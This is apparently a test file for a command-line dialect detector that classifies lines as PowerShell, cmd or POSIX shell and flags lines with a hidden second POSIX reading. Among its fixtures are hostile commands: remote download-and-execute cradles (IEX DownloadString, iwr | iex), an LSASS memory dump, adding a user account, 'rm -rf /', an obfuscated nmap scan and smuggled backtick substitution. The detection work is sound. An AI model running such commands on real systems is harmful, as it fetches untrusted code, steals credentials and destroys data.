import fc from 'fast-check'
import { detectDialect, mayBePosix } from './dialect.js'

describe('detectDialect', () => {
  test.each([
    ['Get-ChildItem C:\\work -Recurse | Where-Object { $_.Length -gt 1mb }'],
    ['get-process lsass | out-minidump'],
    ['$x = New-Object Net.WebClient; $x.DownloadString("http://h/")'],
    ['[System.IO.File]::ReadAllText("a.txt")'],
    ["IEX (New-Object Net.WebClient).DownloadString('http://h/a')"],
    ['iwr https://h/a.ps1 | iex'],
    ['& "C:\\tools\\x.exe" -a'],
    ['1..10 | % { ping 10.0.0.$_ }'],
    ['foreach ($f in $files) { $f }'],
    ['try { foo } catch { bar }'],
    ['.\\build.ps1 -Target all'],
    ['cp a.txt $env:USERPROFILE\\b.txt'],
    ['if (Test-Path a) { Remove-Item a }'],
    ["powershell -c {get-eventlog 'Security'}"],
  ])('PowerShell: %s', (line) => {
    expect(detectDialect(line)).toBe('powershell')
  })

  test.each([
    ['reg add HKLM\\Software\\X /v a /d b /f'],
    ['copy %TEMP%\\a.txt C:\\b.txt'],
    ['"C:\\tools\\procdump.exe" -accepteula -ma x.exe'],
    ['for /f "tokens=2" %i in (a.txt) do echo %i'],
    ['@echo off\nset X=1\necho %X%'],
    ['if not exist C:\\work mkdir C:\\work'],
    ['net user bob Secret1 /add'],
    ['sc create svc binPath= "C:\\x.exe"'],
    ['del /f /q build'],
    ['dir > nul'],
    ['netsh advfirewall show allprofiles'],
    ['wevtutil qe Application'],
    ['certutil.exe -hashfile a.bin SHA256'],
    ['powershell -nop -c "Get-Process"'],
    ['shutdown /s /t 0'],
  ])('cmd: %s', (line) => {
    expect(detectDialect(line)).toBe('cmd')
  })

  test.each([
    ['ls -la'],
    ['git commit -m "Use Get-ChildItem | Where-Object, see C:\\\\temp and %TEMP%"'],
    ['cd /workspace && npm test'],
    ["cat > a.ps1 <<'EOF'\nGet-Process | Stop-Process\nEOF"],
    ["grep -r 'C:\\Windows' src"],
    ['docker build -t app-$env:latest .'],
    ['date +%Y%m%d%H%M'],
    ["printf '%s%d\\n' a 1"],
    ['apt-get install -y curl && update-alternatives --list java'],
    ['for f in *.txt; do echo "$f"; done'],
    ['if [ -f a ]; then echo b; fi'],
    ['sudo add-apt-repository ppa:x/y'],
    ['find . -name "*.ps1" | xargs rm'],
    ['iex -S mix'],
    ['time make test'],
    ['type -a python'],
    ['sort -u a.txt'],
    ['pwsh -c \'Get-Process\''],
    ['dir /workspace'],
    ['curl -o a.exe https://h/a.exe'],
    ['echo "$HOME" > /dev/null'],
    ['(cd src; make)'],
    ['#!/bin/bash\nreg add HKLM\\x'],
    ['set -euo pipefail'],
    ['start-stop-daemon --start --exec /usr/sbin/x'],
  ])('a POSIX shell: %s', (line) => {
    expect(detectDialect(line)).toBe('sh')
  })

  test('is defined for every text', () => {
    fc.assert(fc.property(fc.string({ maxLength: 400 }), (text) => ['sh', 'powershell', 'cmd'].includes(detectDialect(text))))
  })
})

describe('mayBePosix', () => {
  test.each([
    ['echo C:\\x; a=nm; b=ap; $a$b -sV 10.0.0.0/24', true],
    ['reg query HKLM\\x `whoami`', true],
    ['copy a.txt C:\\b.txt & del a.txt', false],
    ['net user bob /add', false],
  ])('cmd: %s', (line, expected) => {
    expect(mayBePosix(line, 'cmd')).toBe(expected)
  })

  test.each([
    ['Get-Item a; x=1 sh -c id', true],
    ['rm -rf /; Get-Item x', true],
    ['Get-Item x | bash ', true],
    ['$a = Get-Item b; Remove-Item $a', false],
    ['Get-ChildItem | ForEach-Object { $_.Name }', false],
  ])('PowerShell: %s', (line, expected) => {
    expect(mayBePosix(line, 'powershell')).toBe(expected)
  })

  test('a POSIX line has no second reading', () => {
    expect(mayBePosix('a=1 b', 'sh')).toBe(false)
  })

  test('names of what every object has are no programs', () => {
    expect(detectDialect('constructor>require(')).toBe('sh')
  })
})
